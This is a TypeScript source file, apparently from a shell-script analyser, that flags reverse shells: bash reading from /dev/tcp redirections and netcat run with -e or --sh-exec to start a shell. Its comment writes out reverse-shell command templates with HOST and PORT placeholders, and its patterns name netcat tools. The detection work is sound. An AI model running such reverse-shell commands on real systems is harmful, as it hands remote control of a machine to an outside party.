import type { Command, Redirect, Script } from '../../../shell/script.ts';
import { UNKNOWN } from '../../../text/mapped.ts';
import { askedOf, addressOf, shownAddress } from './addresses.ts';
import { type Run, runsIn } from './runs.ts';

/** A shell that runs what comes through a connection that is kept open: no file and no answer can be looked at. */
export interface ConnectedShell {
  readonly command: Command;
  /** `sh`, `nc`. */
  readonly program: string;
  /** Who sends what is run, for a message; empty where that cannot be told. */
  readonly shown: string;
}

/** `bash < /dev/tcp/HOST/PORT`, `bash -i >& /dev/tcp/HOST/PORT 0>&1` (bash(1), "Redirection"), `nc -e /bin/sh HOST PORT`. */
export function connectedShells(script: Script): readonly ConnectedShell[] {
  const found = script.commands.flatMap((command) => ofNetcat(command) ?? []);
  if (!script.text.text.includes('/dev/')) return found;
  return [...found, ...runsIn(script).flatMap((run) => ofRun(run) ?? [])];
}

const CONNECTION = /^\/dev\/(?:tcp|udp)\/([^/]{1,255})\/([^/]{1,40})$/;

function ofRun({ command, program, files, sources }: Run): ConnectedShell | undefined {
  const targets = [command, ...sources.slice(0, 1)].flatMap(readFrom).map(({ target }) => target.text);
  const path = [...files.map(({ key }) => key), ...targets].find((one) => CONNECTION.test(one));
  const [, host, port] = (path === undefined ? undefined : CONNECTION.exec(path)) ?? [];
  const word = command.name;
  if (host === undefined || word === undefined) return undefined;
  const address = addressOf(word, `tcp://${host}:${port ?? ''}`);
  return askedOf(address) === 'loopback' ? undefined : { command, program, shown: shownAddress(address) };
}

/** What a command reads from: also what it writes to where it is told to read from there, too (`0>&1`). */
function readFrom({ redirects }: Command): readonly Redirect[] {
  const isTurned = redirects.some(({ descriptor, target }) => descriptor === 0 && /^[12]$/.test(target.text));
  return redirects.filter(({ operator }) => isTurned || operator === '<' || operator === '<>');
}

function ofNetcat({ program, words, ...rest }: Command): ConnectedShell | undefined {
  if (!NETCATS.has(program)) return undefined;
  const at = words.findIndex(({ text }) => EXECUTES.test(text));
  const shell = words[at + 1]?.text ?? '';
  if (at < 0 || !/(?:^|\/)(?:ba|da|z|k)?sh(?:\s|$)/.test(shell)) return undefined;
  const host = words.find(
    ({ text }, index) => index !== at + 1 && /^[\w.:-]*[a-z.:][\w.:-]*$/i.test(text) && !text.startsWith('-'),
  );
  const shown =
    host === undefined || host.text.includes(UNKNOWN)
      ? ''
      : shownAddress(addressOf(host, `tcp://${host.text}`));
  return { command: { program, words, ...rest }, program, shown };
}

const NETCATS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat']);
const EXECUTES = /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec)$/;
